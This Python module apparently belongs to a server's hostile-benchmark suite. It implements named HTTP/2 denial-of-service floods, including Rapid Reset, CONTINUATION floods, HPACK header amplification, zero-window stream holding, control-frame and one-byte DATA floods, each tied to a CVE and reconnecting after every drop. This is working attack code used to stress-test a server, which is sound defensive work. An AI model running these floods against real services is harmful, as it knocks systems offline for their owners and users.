"""Attacks over HTTP/2, by name. A connection that the front door ends is made again at once, so that they go on."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count, repeat

import hpack

from benchmarks.hostile.attacker import Attack, Tally, Target, connect
from tests.e2e.harness.http2_raw import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WHOLE,
    WINDOW_UPDATE,
    Fields,
    block,
    frame,
    number,
    setting,
)

_CANCEL = number(8)
_NO_WINDOW = frame(SETTINGS, 0, 0, setting(4, 0))
_LARGE = [("x", "y" * 3900)]

Pieces = Iterator[bytes]
"""What one connection sends after its preface, piece by piece; the attack waits at the end of it."""


def _fields(target: Target, method: str = "GET", path: str = "/") -> Fields:
    return [(":method", method), (":scheme", "http"), (":path", path), (":authority", target.host)]


def _get(target: Target, path: str = "/") -> bytes:
    return block(_fields(target, path=path))


def _streams() -> Iterator[int]:
    return count(1, 2)


def _press(target: Target, size: int, tally: Tally, make: Callable[[], Pieces]) -> None:
    """On so many connections, send as much as is accepted of what `make` gives, and read what arrives."""
    open_now: dict[socket.socket, tuple[Pieces, bytes]] = {}
    tally.ready.set()
    while tally.running():
        for sock in connect(target, size - len(open_now), tally):
            open_now[sock] = make(), PREFACE + frame(SETTINGS, 0, 0)
        moved = False
        for sock, (pieces, rest) in list(open_now.items()):
            rest = rest or next(pieces, b"")  # noqa: PLW2901
            sent = _step(sock, rest, tally)
            if sent < 0:
                sock.close()
                del open_now[sock]
            else:
                open_now[sock] = pieces, rest[sent:]
                moved = moved or sent > 0
        if not moved:
            time.sleep(0.001)  # nothing is accepted: do not take CPU time from the front door
    for sock in open_now:
        sock.close()


def _step(sock: socket.socket, data: bytes, tally: Tally) -> int:
    """Send and read what is possible: the bytes sent, -1 if the connection has ended."""
    sent = 0
    with suppress(BlockingIOError):
        try:
            sent = sock.send(data) if data else 0
            tally.add(sent=sent)
            if not sock.recv(262144):
                sent = -1
        except ConnectionError:
            sent = -1
    tally.add(lost=sent < 0)
    return sent


def rapid_resets(target: Target, size: int, tally: Tally) -> None:
    """CVE-2023-44487: requests that are given up at once."""
    get = _get(target)
    _press(
        *(target, size, tally),
        lambda: (frame(HEADERS, WHOLE, one, get) + frame(RST_STREAM, 0, one, _CANCEL) for one in _streams()),
    )


def made_resets(target: Target, size: int, tally: Tally) -> None:
    """CVE-2025-8671: requests that the front door has to reset."""
    get = _get(target)
    _press(
        *(target, size, tally),
        lambda: (frame(HEADERS, WHOLE, one, get) + frame(WINDOW_UPDATE, 0, one, number(0)) for one in _streams()),
    )


def continuations(target: Target, size: int, tally: Tally) -> None:
    """CVE-2024-27316: a head without end."""
    get = _get(target)
    _press(
        *(target, size, tally),
        lambda: iter((frame(HEADERS, 0, 1, get), *repeat(frame(CONTINUATION, 0, 1, b"\0\1a\1b"), 100))),
    )


def small_large_heads(target: Target, size: int, tally: Tally) -> None:
    """Heads of 60 KB in twenty bytes, as fast as they are accepted."""
    first = hpack.Encoder().encode([*_fields(target), *_LARGE])
    again = b"\x82\x86\x84\xbf" + b"\xbe" * 15
    _press(
        *(target, size, tally),
        lambda: (frame(HEADERS, WHOLE, one, first if one == 1 else again) for one in _streams()),
    )


def held_heads(target: Target, size: int, tally: Tally) -> None:
    """CVE-2026-49975: the same, of a hundred requests whose windows are shut."""
    first = hpack.Encoder().encode([*_fields(target, path="/large"), *_LARGE])
    again = b"\x82\x86\xc0\xbf" + b"\xbe" * 15
    heads = [frame(HEADERS, WHOLE, 2 * i + 1, again if i else first) for i in range(100)]
    _press(target, size, tally, lambda: iter((_NO_WINDOW, *heads)))


def control_frames(target: Target, size: int, tally: Tally) -> None:
    """CVE-2019-9512, -9515, -9516: pings, settings and priorities."""
    frames = frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0) + frame(PRIORITY, 0, 3, number(1) + b"\0")
    _press(target, size, tally, lambda: repeat(frames * 20))


def dribbles(target: Target, size: int, tally: Tally) -> None:
    """CVE-2019-9511: a body in frames of one byte."""
    post = block(_fields(target, "POST"))
    _press(
        *(target, size, tally),
        lambda: iter((frame(HEADERS, END_HEADERS, 1, post), *repeat(frame(DATA, 0, 1, b"x") * 500, 100))),
    )


def shut_windows(target: Target, size: int, tally: Tally) -> None:
    """CVE-2019-9517: a hundred large responses on each connection, none of which may be sent."""
    get = _get(target, "/large")
    _press(
        *(target, size, tally),
        lambda: iter((_NO_WINDOW, *(frame(HEADERS, WHOLE, 2 * i + 1, get) for i in range(100)))),
    )


def many_requests(target: Target, size: int, tally: Tally) -> None:
    """Requests for an instance, as many as are accepted."""
    get = _get(target)
    _press(target, size, tally, lambda: (frame(HEADERS, WHOLE, one, get) for one in _streams()))


HTTP2_FLOODS: dict[str, Attack] = {
    f"http2_{attack.__name__}": attack
    for attack in (
        rapid_resets,
        made_resets,
        continuations,
        small_large_heads,
        held_heads,
        control_frames,
        dribbles,
        shut_windows,
        many_requests,
    )
}
